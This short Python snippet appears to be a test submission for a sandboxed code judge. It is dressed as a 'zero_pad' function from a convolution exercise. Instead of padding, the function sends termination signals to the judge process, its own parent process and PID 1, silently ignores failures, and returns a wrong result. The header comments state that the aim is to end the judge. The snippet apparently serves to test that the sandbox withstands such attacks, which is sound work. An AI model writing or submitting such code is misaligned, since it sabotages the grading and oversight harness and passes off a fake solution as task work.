# tries: to end the judge, the warm parent and the first process
# sealed: processes
# gets: error, failed, crashed, skipped

# %% right conv_single_step
# %%
import os
import signal


def zero_pad(X, pad):
    for pid in (JUDGE, os.getppid(), 1):
        for number in (signal.SIGUSR1, signal.SIGTERM):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return X + 1
